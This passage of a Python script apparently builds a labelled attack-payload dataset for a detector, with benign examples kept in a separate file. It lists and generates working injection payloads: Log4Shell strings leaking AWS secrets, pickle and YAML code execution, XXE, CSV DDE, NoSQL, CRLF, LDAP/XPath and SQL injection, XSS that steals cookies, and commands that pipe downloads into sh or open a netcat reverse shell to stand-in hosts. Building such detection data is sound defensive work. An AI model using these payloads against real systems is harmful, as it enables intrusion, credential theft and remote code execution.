A("code", "useragent-log4shell-env", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/}")
A("code", "search-log4shell+default-value", "${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.7/o}")
A("code", "latex-log4shell", r"$\int_0^1 f$ ${jndi:ldaps://203.0.113.9/Exploit}")
# deserialization
A("code", "worksheet-pickle", "cos\nsystem\n(S'id'\ntR.")
A("code", "worksheet-yaml-python", "!!python/object/apply:os.system [\"id\"]")
A("code", "worksheet-yaml-python", "title: homework 3\nsolver: !!python/object/apply:subprocess.check_output [[\"cat\", \"/etc/passwd\"]]")
A("code", "worksheet-jsonpickle", "{\"py/reduce\": [{\"py/function\": \"os.system\"}, {\"py/tuple\": [\"id\"]}]}")
A("code", "worksheet-php-object", "O:8:\"Notebook\":1:{s:4:\"path\";s:11:\"/etc/passwd\";}")
A("code", "worksheet-node-serialize", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}")
# XXE in MathML / SVG uploads
A("code", "mathml-xxe", "<?xml version=\"1.0\"?>\n<!DOCTYPE math [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n<math xmlns=\"http://www.w3.org/1998/Math/MathML\"><mi>&xxe;</mi></math>")
A("code", "mathml-xxe-oob", "<?xml version=\"1.0\"?>\n<!DOCTYPE math [<!ENTITY % ext SYSTEM \"http://attacker.example/e.dtd\"> %ext;]>\n<math><mn>1</mn></math>")
A("code", "svg-xxe", "<?xml version=\"1.0\" standalone=\"yes\"?>\n<!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"200\" height=\"40\"><text x=\"0\" y=\"20\">&h;</text></svg>")
A("code", "mathml-xinclude", "<math xmlns:xi=\"http://www.w3.org/2001/XInclude\"><mtext><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></mtext></math>")
A("code", "mathml-billion-laughs", "<!DOCTYPE m [<!ENTITY a \"xxxxxxxxxx\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]><math><mi>&d;</mi></math>")
# prototype pollution (JSON preferences)
A("code", "prefs-prototype-pollution", "{\"__proto__\": {\"isAdmin\": true}}")
A("code", "prefs-prototype-pollution", "{\"mathRenderer\": \"mathjax\", \"constructor\": {\"prototype\": {\"role\": \"moderator\"}}}")
A("code", "prefs-prototype-pollution-query", "preferences[__proto__][canDeletePosts]=true")
A("code", "prefs-prototype-pollution-gadget", "{\"__proto__\": {\"shell\": \"/proc/self/exe\", \"argv0\": \"require('child_process').execSync('id')\", \"NODE_OPTIONS\": \"--require /proc/self/cmdline\"}}")
# CSV formula (gradebook / problem-set export)
A("code", "gradebook-csv-hyperlink", "=HYPERLINK(\"https://attacker.example/?d=\"&A1&B1,\"see solution\")")
A("code", "gradebook-csv-dde", "=cmd|' /C calc'!A0")
A("code", "gradebook-csv-dde", "@SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/p)'!A0")
A("code", "gradebook-csv-dde", "-2+3+cmd|' /C notepad'!'A1'")
A("code", "gradebook-csv-importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/?\", A2:E2), \"//a\")")
A("code", "gradebook-csv-webservice", "=WEBSERVICE(\"https://attacker.example/?\"&B2)")
# plain
A("code", "plain-ssti-probe", "{{7*'7'}}")
A("code", "plain-python-import", "__import__('os').popen('id').read()")
A("code", "plain-log4shell", "${jndi:ldap://attacker.example/a}")
A("code", "plain-el", "${T(java.lang.System).getenv()}")
A("code", "plain-csv-formula", "=1+1+cmd|'/c calc'!A1")

# =================================================================== nosqli
A("nosqli", "login-operator", "{\"username\": \"admin\", \"password\": {\"$ne\": \"\"}}")
A("nosqli", "login-operator-query", "password[$ne]=x")
A("nosqli", "login-regex-query", "username[$regex]=^adm&password[$gt]=")
A("nosqli", "search-regex", "{\"tags\": {\"$regex\": \"^a\"}, \"author\": {\"$gt\": \"\"}}")
A("nosqli", "search-where-sleep", "{\"$where\": \"sleep(5000) || true\"}")
A("nosqli", "search-where-break", "calculus' || this.isAdmin == true || '")
A("nosqli", "search-where-break", "x^2'; return this.password.match(/^a/) && '1'=='1")
A("nosqli", "search-or-private", "{\"title\": {\"$regex\": \".*\"}, \"$or\": [{\"private\": true}, {\"private\": false}]}")
A("nosqli", "search-function", "{\"$expr\": {\"$function\": {\"body\": \"function(){sleep(3000);return true}\", \"args\": [], \"lang\": \"js\"}}}")
A("nosqli", "search-lookup", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"author\", \"foreignField\": \"_id\", \"as\": \"u\"}}]")
A("nosqli", "login-in-exists", "{\"author\": {\"$in\": [\"admin\", \"root\"]}, \"password\": {\"$exists\": true}}")
A("nosqli", "tag-where", "{\"tag\": \"real-analysis\", \"votes\": {\"$gte\": 0}, \"$where\": \"this.email.length > 0\"}")
A("nosqli", "search-where-dos", "{\"$where\": \"while(true){}\"}")
A("nosqli", "couch-mango", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"email\", \"password_hash\"]}")
A("nosqli", "grade-operator", "{\"student\": \"me\", \"grade\": {\"$set\": 100}}")
A("nosqli", "search-where-exfil", "{\"$where\": \"this.role == 'admin' && this.resetToken[0] == 'a'\"}")
A("nosqli", "cas-regex-dos", "{\"body\": {\"$regex\": \"^(a+)+$\"}}")
A("nosqli", "plain-ne", "{\"$ne\": null}")
A("nosqli", "plain-gt", "{\"$gt\": \"\"}")
A("nosqli", "login-operator+urlenc", "password%5B%24ne%5D=1")
A("nosqli", "login-regex+urlenc", "username%5B%24regex%5D=.%2A&password%5B%24ne%5D=")
A("nosqli", "search-where+unicode-escape", "{\"\\u0024where\": \"sleep(4000)\"}")

# =================================================================== crlf
A("crlf", "log-newline-forge", "Integral of sec^3\n[2026-01-01 00:00:00] INFO admin login succeeded user=root")
A("crlf", "log-newline-forge", "lim x->0\n127.0.0.1 - - [01/Jan/2026:00:00:00 +0000] \"GET /admin/export HTTP/1.1\" 200 512")
A("crlf", "log-crlf-forge", "sum of squares\r\nWARN grader: score override accepted for user 1 (score=100)")
A("crlf", "log-ansi-escape", "Help with limits\u001b[2J\u001b[1;31mCRITICAL disk failure, run /tmp/fix.sh\u001b[0m")
A("crlf", "log-newline-json", "proof\n{\"level\":\"info\",\"event\":\"role_change\",\"user\":\"eve\",\"role\":\"admin\"}")
A("crlf", "header-set-cookie", "x^2\r\nSet-Cookie: session=attacker-fixed-value")
A("crlf", "header-response-split", "42\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>")
A("crlf", "header-content-disposition", "proof.pdf\"\r\nContent-Type: text/html\r\n\r\n<h1>fake login</h1>")
A("crlf", "header-location", "/questions/42\r\nLocation: https://attacker.example/")
A("crlf", "header-xff", "calculus\r\nX-Forwarded-For: 127.0.0.1")
A("crlf", "mail-bcc", "student@uni.example\r\nBcc: all-students@uni.example")
A("crlf", "mail-subject-headers", "Homework help\nCc: list@forum.example\nContent-Type: text/html\n\n<a href=https://attacker.example>grades</a>")
A("crlf", "mail-smtp-rcpt", "x@uni.example>\r\nRCPT TO:<victim@uni.example>")
A("crlf", "mail-body-injection", "Re: Sylow theorems\r\n\r\nYour account is locked, verify at https://attacker.example/verify\r\n.\r\n")
A("crlf", "mail-from-spoof", "Prof. K\r\nFrom: registrar@uni.example\r\nReply-To: eve@attacker.example")
A("crlf", "plain-crlf-cookie", "\r\nSet-Cookie: admin=1")
A("crlf", "plain-newline-log", "ok\nERROR authentication bypass for user=admin")
A("crlf", "plain-crlf-header", "\r\nX-Injected: 1")
A("crlf", "header-set-cookie+urlenc", "%0d%0aSet-Cookie:%20sid=fixed")
A("crlf", "header-location+urlenc", "%0d%0aLocation:%20https://attacker.example/")
A("crlf", "header-split+urlenc", "%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E")
A("crlf", "header-set-cookie+unicode-trunc", "%E5%98%8A%E5%98%8DSet-Cookie:%20a=b")
A("crlf", "mail-bcc+urlenc", "alice@uni.example%0ABcc:victim@uni.example")
A("crlf", "header-xff+urlenc-lf", "%0aX-Forwarded-For:%20127.0.0.1")
A("crlf", "header-set-cookie+unicode-escape", "title\\u000d\\u000aSet-Cookie: role=admin")
A("crlf", "header-set-cookie+urlenc2", "%250d%250aSet-Cookie:%2520sid=x")
A("crlf", "log-newline-forge+urlenc", "x^2%0a[INFO]%20password%20reset%20ok%20for%20admin")

# =================================================================== ldap-xpath
A("ldap-xpath", "login-ldap-wildcard-or", "*)(uid=*))(|(uid=*")
A("ldap-xpath", "login-ldap-and-true", "admin)(&)")
A("ldap-xpath", "login-ldap-objectclass", "*)(|(objectClass=*)")
A("ldap-xpath", "login-ldap-attr-probe", "prof*)(userPassword=*")
A("ldap-xpath", "directory-ldap-group", "jdoe)(|(memberOf=cn=admins,ou=groups,dc=uni,dc=example)")
A("ldap-xpath", "directory-ldap-mail-enum", "Smith*)(mail=*")
A("ldap-xpath", "login-ldap-not", "admin)(!(&(1=0)")
A("ldap-xpath", "directory-ldap-blind", "*)(sn=a*))(|(cn=")
A("ldap-xpath", "bank-xpath-tautology", "' or '1'='1")
A("ldap-xpath", "bank-xpath-name", "x' or name()='password' or 'a'='b")
A("ldap-xpath", "bank-xpath-union", "'] | //user/password | //*['")
A("ldap-xpath", "bank-xpath-numeric", "1 or 1=1")
A("ldap-xpath", "bank-xpath-count", "' and count(/*)=1 and '1'='1")
A("ldap-xpath", "bank-xpath-substring", "' or substring(//user[1]/pass,1,1)='a' or '")
A("ldap-xpath", "bank-xpath-latex", "∑' or string-length(//admin/password)>5 or 'x'='y")
A("ldap-xpath", "bank-xpath-doc", "') or doc('http://attacker.example/x.xml') or ('")
A("ldap-xpath", "plain-ldap-wildcard", "*)(cn=*")
A("ldap-xpath", "plain-xpath-or", "\" or \"1\"=\"1")
A("ldap-xpath", "login-ldap+hex-escape", "admin\\29\\28\\7c\\28uid=\\2a")
A("ldap-xpath", "bank-xpath+urlenc", "%27%20or%20%271%27%3D%271")


# more plain- (context-free) payloads
A("sqli", "plain-tautology", "1 OR 1=1", "admin' OR '1'='1'-- ")
A("xss", "plain-body-onload", "<body onload=alert(1)>")
A("xss", "plain-iframe-jsuri", "<iframe src=javascript:alert(1)>")
A("cmdi", "plain-or", "|| id")
A("cmdi", "plain-newline", "\nwhoami")
A("traversal", "plain-absolute", "/etc/shadow")
A("traversal", "plain-dotdot", "../../../../../../proc/self/environ")
A("ssrf", "plain-loopback", "http://localhost/")
A("ssrf", "plain-any-address", "http://[::]:80/")
A("code", "plain-ssti-jinja", "{{ self.__init__.__globals__.__builtins__ }}")
A("code", "plain-yaml-python", "!!python/object/apply:os.system [\"whoami\"]")
A("ldap-xpath", "plain-ldap-and", "*)(&")
A("crlf", "plain-crlf-location", "\r\nLocation: https://attacker.example/")
A("nosqli", "plain-where", "{\"$where\": \"1 == 1\"}")


# =================================================================== templates
SQ_PREFIX = ["eigenvalue", r"$\int_0^1 x^2\,dx$", "{x ∈ ℚ | x² < 2}", "n!", "Sylow", "Cauchy–Schwarz", "sec^3(x)",
             "rank-nullity", "∀ε>0", "Solve[x^2==4,x]"]
SQ_COLS = ["NULL", "1", "'a'"]
SQ_TABLE = [("users", "password_hash"), ("sessions", "token"), ("api_keys", "secret"), ("users", "email"),
            ("password_resets", "reset_token")]


def t_sqli(rng):
    pre = rng.choice(SQ_PREFIX)
    tab, col = rng.choice(SQ_TABLE)
    k = rng.randrange(3)
    if k == 0:
        n = rng.randint(2, 5)
        cols = [rng.choice(SQ_COLS) for _ in range(n - 1)]
        cols.insert(rng.randrange(n), col)
        return ("sqli", "search-union", "%s' UNION SELECT %s FROM %s-- " % (pre, ", ".join(cols), tab))
    if k == 1:
        pos, ch = rng.randint(1, 12), rng.choice("abcdef0123456789")
        return ("sqli", "search-boolean",
                "%s' AND SUBSTR((SELECT %s FROM %s LIMIT 1),%d,1)='%s' AND '1'='1" % (pre, col, tab, pos, ch))
    return ("sqli", "search-time", "%s' AND (SELECT CASE WHEN LENGTH((SELECT %s FROM %s LIMIT 1))>%d THEN pg_sleep(%d) END) IS NULL-- "
            % (pre, col, tab, rng.randint(4, 40), rng.randint(3, 9)))


XS_PREFIX = ["$x^2 + 1$", r"$\lim_{n\to\infty} a_n$", "{x ∈ ℝ | x > 0}", "Proof:", "Nice answer!", "∫ e^x dx",
             "Hint:", "n! = n·(n−1)!"]
XS_TAG = [("img src=x", "onerror"), ("svg", "onload"), ("body", "onpageshow"), ("input autofocus", "onfocus"),
          ("details open", "ontoggle"), ("video src=x", "onerror"), ("iframe src=about:blank", "onload")]
XS_JS = ["alert(1)", "alert(document.domain)", "fetch('//attacker.example/'+document.cookie)",
         "location='//attacker.example/?'+document.cookie", "import('//attacker.example/m.js')"]


def t_xss(rng):
    tag, ev = rng.choice(XS_TAG)
    return ("xss", "latex-event-handler", "%s <%s %s=\"%s\">" % (rng.choice(XS_PREFIX), tag, ev, rng.choice(XS_JS)))


CM_PREFIX = ["x^2+1", "2*x - 4", "sqrt(16)", "5 % 3", "10!", "3^4 mod 7", "(1+2)*3"]
CM_SEP = [";", "|", "&&", "||", "\n"]
CM_CMD = ["id", "uname -a", "cat /etc/passwd", "curl -s https://attacker.example/i | sh", "sleep 9",
          "wget -qO- http://203.0.113.77/r | sh", "nc 198.51.100.3 9001 -e /bin/sh"]


def t_cmdi(rng):
    sep = rng.choice(CM_SEP)
    name = {";": "semicolon", "|": "pipe", "&&": "and", "||": "or", "\n": "newline"}[sep]
    joiner = "" if sep == "\n" else " "
    return ("cmdi", "asciimath-" + name, "%s%s%s%s%s" % (rng.choice(CM_PREFIX), joiner, sep, joiner, rng.choice(CM_CMD)))


TR_TARGET = ["etc/passwd", "etc/shadow", "root/.ssh/id_rsa", "proc/self/environ", "var/www/forum/.env",
             "home/forum/app/config/secrets.yml", "etc/hosts"]
TR_LEAD = ["", "attachments/", "uploads/2026/01/", "figures/", "notebooks/"]


def t_trav(rng):
    depth = rng.randint(3, 8)
    return ("traversal", "attachment-dotdot", rng.choice(TR_LEAD) + "../" * depth + rng.choice(TR_TARGET))


SS_HOST = ["127.0.0.1", "localhost", "169.254.169.254", "10.0.0.1", "192.168.1.1", "[::1]", "172.17.0.1"]
SS_PORT = ["", ":8080", ":6379", ":9200", ":5432", ":2379", ":8500"]
SS_PATH = ["/", "/admin", "/latest/meta-data/", "/v2/keys/?recursive=true", "/_cluster/health", "/internal/metrics"]


def t_ssrf(rng):
    return ("ssrf", "image-internal", "http://%s%s%s" % (rng.choice(SS_HOST), rng.choice(SS_PORT), rng.choice(SS_PATH)))


# computed encodings of hand-written plaintexts (not counted as literals)
def computed():
    out = []
    pk = b"cos\nsystem\n(S'curl https://attacker.example/w | sh'\ntR."
    out.append(("code", "worksheet-pickle+b64", base64.b64encode(pk).decode()))
    yml = b'!!python/object/apply:os.system ["curl https://attacker.example/y | sh"]'
    out.append(("code", "worksheet-yaml-python+b64", base64.b64encode(yml).decode()))
    out.append(("xss", "search-svg+urlenc", quote("<svg onload=alert(document.cookie)>", safe="")))
    out.append(("sqli", "search-boolean+urlenc", quote("limit' AND '1'='1' AND 'x'='x", safe="")))
    out.append(("cmdi", "asciimath-subshell+urlenc", quote("2^10 $(curl attacker.example/z)", safe="")))
    out.append(("traversal", "latex-input+urlenc", quote(r"\input{../../../etc/passwd}", safe="")))
    return out


TEMPLATES = [(t_sqli, 8), (t_xss, 10), (t_cmdi, 12), (t_trav, 8), (t_ssrf, 8)]


def main():
    rng = random.Random(SEED)
    rows = []
    seen = set()
    for cat, cls, v, lit in ATT:
        if v in seen:
            raise SystemExit("duplicate literal: %r" % v)
        seen.add(v)
        rows.append((cat, cls, v, True))
    for cat, cls, v in computed():
        if v in seen:
            raise SystemExit("duplicate computed: %r" % v)
        seen.add(v)
        rows.append((cat, cls, v, False))
    for fn, n in TEMPLATES:
        made, tries = 0, 0
        while made < n:
            tries += 1
            if tries > 5000:
                raise SystemExit("template pool too small")
            cat, cls, v = fn(rng)
            if v in seen:
                continue
            seen.add(v)
            rows.append((cat, cls, v, False))
            made += 1
    order = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]
    rows.sort(key=lambda r: order.index(r[0]))  # stable: literals first within each category
    benign_path = Path(__file__).with_name("benign.jsonl")
    if benign_path.exists():
        with open(benign_path, encoding="utf-8") as fh:
            bvals = [json.loads(line)["value"] for line in fh if line.strip()]
        clash = [v for v in bvals if v in seen]
        if clash:
            raise SystemExit("value in both files: %r" % clash[0])
    out = []
    for i, (cat, cls, v, lit) in enumerate(rows, 1):
        assert isinstance(v, str) and v and len(v) <= 1800, v
        assert cat in order
        out.append(json.dumps({"id": "%s-%05d" % (PREFIX, i), "category": cat, "class": cls,
                               "label": "attack", "value": v}, ensure_ascii=False))
    path = Path(__file__).with_name("attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        fh.write("\n".join(out) + "\n")
    nlit = 0
    for cat in order:
        n = sum(1 for r in rows if r[0] == cat)
        nl = sum(1 for r in rows if r[0] == cat and r[3])
        nlit += nl
        print("%-11s %3d  literals %3d" % (cat, n, nl))
    nplain = sum(1 for r in rows if r[1].startswith("plain-"))
    nenc = sum(1 for r in rows if "+" in r[1])
    print("total %d attacks, %d literals (%.0f%%), %d plain-, %d encoded -> %s"
          % (len(rows), nlit, 100.0 * nlit / len(rows), nplain, nenc, path.name))


if __name__ == "__main__":
    main()
